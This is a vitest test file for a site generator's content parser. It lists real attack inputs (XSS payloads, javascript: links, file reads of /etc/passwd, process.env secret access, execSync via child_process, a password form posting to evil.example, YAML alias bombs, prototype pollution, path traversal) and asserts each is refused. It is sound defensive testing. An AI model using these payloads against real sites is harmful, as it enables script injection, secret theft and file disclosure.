import { expect, test } from 'vitest';
import { readProgramme, type ContentFile } from '../../src/records/programme.ts';
import { toFile, toMentor, toPage } from './files.ts';
import { toPng } from './pictures.ts';

/**
 * What works against a site generator that runs its content: each is refused with its code. The texts are
 * real attacks; none of them may reach a compiler, a browser or the file system.
 */
const refused: readonly (readonly [what: string, file: ContentFile, code: string])[] = [
  [
    'an import of node:fs',
    toPage("import fs from 'node:fs'\n\n{fs.readFileSync('/etc/hostname','utf8')}"),
    'import-or-export',
  ],
  [
    'an export that reads a file',
    toPage("export const h = require('fs').readFileSync('/etc/hostname')"),
    'import-or-export',
  ],
  [
    'an export of a function',
    toPage('export default function () { return 1 }'),
    'import-or-export',
  ],
  ['an export of everything', toPage("export * from 'node:fs'"), 'import-or-export'],
  ['an import for its effect', toPage("import 'data:text/javascript,1'"), 'import-or-export'],
  ['a dynamic import', toPage("{import('node:fs')}"), 'expression'],
  ['a secret of the environment', toPage('{process.env.SECRET_TOKEN}'), 'expression'],
  [
    'a process without an import',
    toPage("{process.getBuiltinModule('node:child_process').execSync('id')}"),
    'expression',
  ],
  ['an expression inside a sentence', toPage('One {globalThis.x = 1} two'), 'expression'],
  ['an expression in a heading', toPage('## {process.version}'), 'expression'],
  ['an expression in a list', toPage('- {process.version}'), 'expression'],
  ['an expression in a table', toPage('| a |\n|---|\n| {process.version} |'), 'expression'],
  [
    'an expression in the text of a link',
    toPage('[{process.version}](https://example.org)'),
    'expression',
  ],
  [
    'an expression in the text of an image',
    toPage('![{process.version}](figures/a.png)'),
    'expression',
  ],
  ['an expression over several lines', toPage('{\n  process.version\n}'), 'expression'],
  ['an expression after two backslashes', toPage('\\\\{process.version}'), 'expression'],
  ['a comment of MDX', toPage('{/* hidden */}'), 'expression'],
  [
    'an attribute with an expression',
    toPage('<Note title={process.env.X}>\na\n</Note>'),
    'expression',
  ],
  ['an attribute that spreads', toPage('<p {...{onclick:"alert(1)"}}>a</p>'), 'expression'],
  [
    'a component from a prototype',
    toPage('<constructor.constructor>\na\n</constructor.constructor>'),
    'html',
  ],
  ['a component of a module', toPage('<Astro.self>\na\n</Astro.self>'), 'unknown-component'],
  ['set:html', toPage('<div set:html="<script>alert(1)</script>"></div>'), 'html'],
  [
    'set:html on an allowed component',
    toPage('<Note set:html="<script>">\na\n</Note>'),
    'component-attribute',
  ],
  [
    'client:load on an allowed component',
    toPage('<Note client:load>\na\n</Note>'),
    'component-attribute',
  ],
  [
    'style on an allowed component',
    toPage('<Note style="position:fixed">\na\n</Note>'),
    'component-attribute',
  ],
  [
    'dangerouslySetInnerHTML',
    toPage('<Note dangerouslySetInnerHTML="x">\na\n</Note>'),
    'component-attribute',
  ],
  [
    'a filter of the search index',
    toPage('<Note data-pagefind-filter="x">\na\n</Note>'),
    'component-attribute',
  ],
  ['a script', toPage('<script>alert(1)</script>'), 'html'],
  ['an image with a handler', toPage('<img src="x" onerror="alert(1)" />'), 'html'],
  [
    'a frame with its own document',
    toPage('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    'html',
  ],
  [
    'a refresh',
    toPage('<meta http-equiv="refresh" content="0;url=https://evil.example" />'),
    'html',
  ],
  ['a base', toPage('<base href="https://evil.example/" />'), 'html'],
  ['a style', toPage('<style>body [display: none]</style>'), 'html'],
  [
    'a form',
    toPage('<form action="https://evil.example"><input name="password" /></form>'),
    'html',
  ],
  ['a link with HTML', toPage('<a href="javascript:alert(1)">a</a>'), 'html'],
  ['an SVG in the text', toPage('<svg onload="alert(1)"></svg>'), 'html'],
  ['a link of JavaScript', toPage('[a](javascript:alert(1))'), 'link-address'],
  ['a link of JavaScript in capitals', toPage('[a](JaVaScRiPt:alert(1))'), 'link-address'],
  [
    'a link of JavaScript by entities',
    toPage('[a](&#106;avascript&colon;alert(1))'),
    'link-address',
  ],
  ['a link of JavaScript behind a tab', toPage('[a](<java\tscript:alert(1)>)'), 'link-address'],
  [
    'a link of JavaScript by reference',
    toPage('[a][b]\n\n[b]: javascript:alert(1)'),
    'link-address',
  ],
  ['a link of data', toPage('[a](data:text/html,<script>alert(1)</script>)'), 'link-address'],
  ['a link of VBScript', toPage('[a](vbscript:msgbox)'), 'link-address'],
  ['a link to a file', toPage('[a](file:///etc/passwd)'), 'link-address'],
  ['a link without a scheme', toPage('[a](//evil.example)'), 'link-address'],
  ['a link with a password', toPage('[a](https://bank.example@evil.example/)'), 'link-address'],
  [
    'a source that is a script',
    toPage('<Quote by="a" url="javascript:alert(1)">\na\n</Quote>'),
    'component-attribute',
  ],
  ['an image of another site', toPage('![a](https://evil.example/pixel.png)'), 'image-address'],
  [
    'an image of another site without a scheme',
    toPage('![a](//evil.example/pixel.png)'),
    'image-address',
  ],
  ['an image of data', toPage('![a](data:image/png;base64,AAAA)'), 'image-address'],
  ['an image outside the folder', toPage('![a](../../../etc/passwd.png)'), 'image-address'],
  [
    'an image in a figure outside',
    toPage('<Figure src="../../../secret.png" alt="a" />'),
    'image-address',
  ],
  ['an SVG image', toPage('![a](../figures/x.svg)'), 'image-address'],
  ['an address full of quotes', toPage('![a](figures/a.png"onerror="alert(1))'), 'image-address'],
  [
    'an SVG under the name of a PNG',
    toFile('content/figures/x.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'image-format',
  ],
  ['an SVG as it is', toFile('content/figures/x.svg', '<svg/>'), 'unplaced-file'],
  [
    'HTML among the pictures',
    toFile('content/figures/x.html', '<script>alert(1)</script>'),
    'unplaced-file',
  ],
  [
    'HTML under the name of a JPEG',
    toFile('content/portraits/x.jpg', '<html><script>alert(1)</script>'),
    'image-format',
  ],
  [
    'a picture that claims to be huge',
    toFile('content/figures/x.png', toPng(65_000, 65_000)),
    'image-size',
  ],
  [
    'a layout that is a module',
    toPage('', [
      'title: a',
      'summary: b',
      'layout: "data:text/javascript,import fs from \'node:fs\'"',
    ]),
    'unknown-key',
  ],
  [
    'a layout of the site',
    toPage('', ['title: a', 'summary: b', 'layout: ../../src/pages/x.astro']),
    'unknown-key',
  ],
  ['a slug that leaves its folder', toMentor({ slug: '../index' }), 'unknown-key'],
  [
    'a fence that only one parser sees',
    toPage('', ['title: a', '---x: "{process.env.SECRET_TOKEN}"', 'summary: b']),
    'front-matter-fence',
  ],
  [
    'front matter of JavaScript',
    toFile('content/pages/roles.mdx', '---js\n{ title: (globalThis.pwned = 1, "a") }\n---\n'),
    'front-matter-missing',
  ],
  [
    'front matter of CoffeeScript',
    toFile('content/pages/roles.mdx', '---coffee\ntitle: a\n---\n'),
    'front-matter-missing',
  ],
  [
    'front matter of TOML',
    toFile('content/pages/roles.mdx', '+++\ntitle = "a"\n+++\n'),
    'front-matter-missing',
  ],
  [
    'an empty line before front matter',
    toFile('content/pages/roles.mdx', '\n---\ntitle: a\n---\n'),
    'front-matter-missing',
  ],
  [
    'a space after the fence',
    toFile('content/pages/roles.mdx', '--- \ntitle: a\n---\n'),
    'front-matter-missing',
  ],
  ['an alias bomb', toFile('content/topics.yml', toAliasBomb()), 'yaml-feature'],
  [
    'a function of js-yaml',
    toMentor({ name: "!!js/function 'function () { return 1 }'" }),
    'yaml-feature',
  ],
  ['a merge key', toFile('content/topics.yml', 'topics: []\n<<: { topics: [] }\n'), 'yaml-feature'],
  ['a prototype', toMentor({ ['__proto__']: '{ polluted: true }' }), 'unknown-key'],
  ['a constructor', toMentor({ constructor: '{ prototype: { polluted: true } }' }), 'unknown-key'],
  [
    'a second document',
    toFile('content/topics.yml', 'topics: []\n---\ntopics: []\n'),
    'yaml-feature',
  ],
  [
    'a picture smuggled into a text',
    toMentor({ headline: '"__ASTRO_IMAGE_/etc/secret.png"' }),
    'reserved-text',
  ],
  [
    'a picture smuggled by an escape',
    toMentor({ headline: '"\\x5f_ASTRO_IMAGE_/etc/secret.png"' }),
    'reserved-text',
  ],
  ['a picture marker in prose', toPage('\\_\\_ASTRO_IMAGE_="1"'), 'reserved-text'],
  ['a picture marker by entities', toPage('&#95;&#95;ASTRO_IMAGE_="1"'), 'reserved-text'],
  [
    'a picture marker in an attribute',
    toPage('<Note title="__ASTRO_IMAGE_=1">\na\n</Note>'),
    'reserved-text',
  ],
  ['a picture marker in code', toPage('`__ASTRO_IMAGE_="1"`'), 'reserved-text'],
  ['a picture marker in an address', toPage('[a](/__ASTRO_IMAGE_=1)'), 'reserved-text'],
  ['text that runs backwards', toPage('access \u202E ssecca'), 'hidden-character'],
  ['text that runs backwards by an entity', toPage('access &#x202e; ssecca'), 'hidden-character'],
  [
    'a byte order mark',
    toFile('content/pages/roles.mdx', '\uFEFF---\ntitle: a\nsummary: b\n---\n'),
    'byte-order-mark',
  ],
  [
    'UTF-16',
    toFile('content/pages/roles.mdx', Uint8Array.from([0xff, 0xfe, 0x2d, 0x00])),
    'not-utf-8',
  ],
  ['a path that leaves the folder', toFile('content/../../etc/passwd', 'x'), 'unplaced-file'],
  ['a name with a dot', toFile('content/mentors/..mdx', 'x'), 'file-name'],
  [
    'brackets that overflow a stack',
    toPage(`{${'['.repeat(5000)}${']'.repeat(5000)}}`),
    'expression',
  ],
  [
    'an export that overflows a stack',
    toPage(`export const a = ${'['.repeat(5000)}`),
    'import-or-export',
  ],
  [
    'nesting that overflows a stack',
    toPage(`${'<Note>\n'.repeat(100)}x\n${'</Note>\n'.repeat(100)}`),
    'too-complex',
  ],
  [
    'a table that fills memory',
    toPage(`${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|\n'.repeat(4000)}`),
    'too-complex',
  ],
  [
    'references that fill memory',
    toPage(`[a]: ${'b'.repeat(10_000)}\n\n${'[a] '.repeat(5000)}`),
    'too-complex',
  ],
  ['entities that fill memory', toPage('&#65;'.repeat(6000)), 'too-complex'],
];

function toAliasBomb(): string {
  const letters = 'a b c d e f g h i'.split(' ');
  const lines = letters.map((letter, index) => {
    const before = letters[index - 1];
    const item = before === undefined ? 'lol' : `*${before}`;
    return `${letter}: &${letter} [${Array.from({ length: 9 }, () => item).join(', ')}]`;
  });
  return lines.join('\n');
}

test.each(refused)('%s is refused', (_, file, code) => {
  const { programme, problems } = readProgramme([file]);
  expect(problems.map((problem) => problem.code)).toContain(code);
  expect(programme.pages.size + programme.mentors.size).toBe(0);
  expect(Object.prototype).not.toHaveProperty('polluted');
});

const inert: readonly (readonly [what: string, prose: string, shown: string])[] = [
  ['a link with a backslash', '[a](/\\\\evil.example)', '<a href="/%5Cevil.example">a</a>'],
  ['code in backticks', '`{process.env.X}`', '<p><code>{process.env.X}</code></p>'],
  [
    'code in a block',
    "```js\nimport fs from 'node:fs';\nexport {a};\n```",
    "import fs from 'node:fs';\nexport {a};",
  ],
  ['escaped braces', 'A \\{b\\} c', '<p>A {b} c</p>'],
  ['an escaped tag', '\\<script>alert(1)\\</script>', '<p>&#x3C;script>alert(1)&#x3C;/script></p>'],
  ['entities of a tag', '&lt;script&gt;', '<p>&#x3C;script></p>'],
  [
    'prose that begins like a module',
    'import this into your calendar',
    '<p>import this into your calendar</p>',
  ],
  ['prose that goes on like a module', 'Then\nexport the list.', '<p>Then\nexport the list.</p>'],
  [
    'a title of a link',
    '[a](https://example.org "onclick=alert(1)")',
    '<a href="https://example.org" rel="noopener noreferrer">a</a>',
  ],
  ['an attribute of a heading', '## Main \\{#main\\}', '<h2 id="s-main-main">Main {#main}</h2>'],
  ['a heading that would take a name', '## location', '<h2 id="s-location">location</h2>'],
  [
    'a footnote with a strange name',
    'a[^x"onclick=1]\n\n[^x"onclick=1]: b',
    '<a href="#note-fn-x%22onclick=1" id="note-fnref-x%22onclick=1">1</a>',
  ],
  [
    'an address with braces',
    '[a](https://example.org/\\{id\\})',
    '<a href="https://example.org/%7Bid%7D" rel="noopener noreferrer">a</a>',
  ],
  [
    'an address with a quote',
    '[a](https://example.org/"onclick="x)',
    '<a href="https://example.org/%22onclick=%22x" rel="noopener noreferrer">a</a>',
  ],
  [
    'a language of code with a quote',
    '```js"onclick=x\na\n```',
    '<pre tabindex="0"><code>a\n</code></pre>',
  ],
  [
    'front matter inside the text',
    '---\nlayout: x\n---',
    '<hr>\n<h2 id="s-layout-x">layout: x</h2>',
  ],
];

test.each(inert)('%s is shown and does nothing', (_, prose, shown) => {
  const { programme, problems } = readProgramme([toPage(prose)]);
  expect(problems).toEqual([]);
  expect(programme.pages.get('roles')?.body?.html).toContain(shown);
});
